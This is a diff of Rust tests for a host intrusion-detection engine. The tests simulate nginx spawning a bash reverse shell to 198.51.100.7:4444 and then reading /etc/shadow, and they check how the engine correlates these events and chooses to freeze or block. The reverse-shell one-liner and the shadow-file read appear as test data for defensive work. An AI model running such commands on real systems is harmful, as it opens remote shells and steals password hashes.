@@ -123,12 +123,45 @@ fn a_web_intrusion_is_one_incident_and_is_contained_by_mode() {
     assert_eq!((last.subject, last.addresses.clone()), (Some(shell.key), vec![FAR.parse().unwrap()]));
     assert!(last.sentence.starts_with("nginx (pid 812) ran \"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\" as bash (pid 900), which connected to 198.51.100.7:4444"), "{}", last.sentence);
 
-    let acted = bench.rulings(&last, Mode::Balanced, &tree);
-    let plans: Vec<String> = acted
-        .into_iter()
-        .map(|ruling| if let Ruling::Act(warrant) = ruling { warrant.plan().to_string() } else { format!("{ruling:?}") })
-        .collect();
-    assert_eq!(plans, ["freeze /usr/bin/bash (pid 900) and below", "block to 198.51.100.7", "block from 198.51.100.7"]);
+    // One act: BALANCED asks, and AGGRESSIVE shuts out who sits at the other end, for the kernel knows that somebody does.
+    assert_eq!(done(bench.rulings(&last, Mode::Balanced, &tree)), [""; 0]);
+    assert_eq!(done(bench.rulings(&last, Mode::Aggressive, &tree)), ["block from 198.51.100.7"]);
+
+    // What is typed into it is another.
+    let dropped = process(902, "/tmp/x", &["/tmp/x"], Some(&inner), None);
+    let grown = bench.see(&dropped, EventKind::Exec).pop().unwrap().incident;
+    assert_eq!(grown.id, first.id);
+    let tree = [Arc::clone(&shell), Arc::clone(&inner), dropped];
+    assert_eq!(done(bench.rulings(&grown, Mode::Balanced, &tree)), ["freeze /usr/bin/bash (pid 900) and below"]);
+}
+
+/// What is done without a person.
+fn done(rulings: Vec<Ruling>) -> Vec<String> {
+    let act = |ruling| if let Ruling::Act(warrant) = ruling { Some(warrant.plan().to_string()) } else { None };
+    rulings.into_iter().filter_map(act).collect()
+}
+
+#[test]
+fn balanced_acts_as_soon_as_a_stolen_shell_does_anything_else() {
+    let mut bench = Bench::new();
+    let nginx = process(812, "/usr/sbin/nginx", &["nginx"], None, Some(ServiceRole::WebServer));
+    let shell = process(900, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], Some(&nginx), None);
+    let mut inner = Process::clone(&process(901, "/usr/bin/bash", &["bash", "-i"], Some(&shell), None));
+    inner.stdio_sockets = 0b111;
+    let inner = Arc::new(inner);
+    bench.see(&shell, EventKind::Exec);
+    bench.see(&shell, connect(FAR, 4444));
+    bench.see(&inner, EventKind::Exec);
+    let file = FileChange { path: "/etc/shadow".into(), change: FileChangeKind::Opened, persistence: None, before: None, after: None };
+    let cat = process(902, "/usr/bin/cat", &["cat", "/etc/shadow"], Some(&inner), None);
+    let incident = bench.see(&cat, EventKind::FileOpen { file }).pop().unwrap().incident;
+    let why = bench.correlator.explain(incident.id, &[]).unwrap().why;
+    assert!(why.iter().any(|line| line.starts_with("2 independent pieces of evidence: ")), "{why:#?}");
+    let tree = [shell, inner, cat];
+    assert_eq!(
+        done(bench.rulings(&incident, Mode::Balanced, &tree)),
+        ["freeze /usr/bin/bash (pid 900) and below", "block from 198.51.100.7"]
+    );
 }
 
 #[test]
@@ -175,7 +208,9 @@ fn a_loss_in_the_story_takes_the_last_word_from_the_agent() {
         bench.see(&shell, connect(FAR, 4444));
         let hop = if count > 0 { "lane-bulk" } else { "the sensors changed" };
         bench.correlator.loss(&Loss { from: Some(at(from)), to: Some(at(to)), ..Loss::new(hop, count) }, at(to));
-        let last = bench.see(&inner, EventKind::Exec).pop().unwrap().incident;
+        bench.see(&inner, EventKind::Exec);
+        let dropped = process(902, "/tmp/x", &["/tmp/x"], Some(&inner), None);
+        let last = bench.see(&dropped, EventKind::Exec).pop().unwrap().incident;
         assert_eq!(last.complete, !touched, "{count} lost from {from} to {to}");
         let evidence = bench.correlator.explain(last.id, &[]).unwrap().evidence;
         assert_eq!(evidence.starts_with("incomplete"), touched, "{evidence}");
@@ -187,6 +222,7 @@ fn a_loss_in_the_story_takes_the_last_word_from_the_agent() {
                     assert!(!touched, "acted alone on incomplete evidence: {}", warrant.plan());
                     assert!(warrant.plan().kind().is_reversible());
                 }
+                Ruling::Ask { plan, .. } if plan.to_string().starts_with("block to") => {}
                 Ruling::Ask { plan, held_because, .. } => {
                     assert!(touched && held_because.contains("evidence was lost"), "{plan}: {held_because}");
                 }
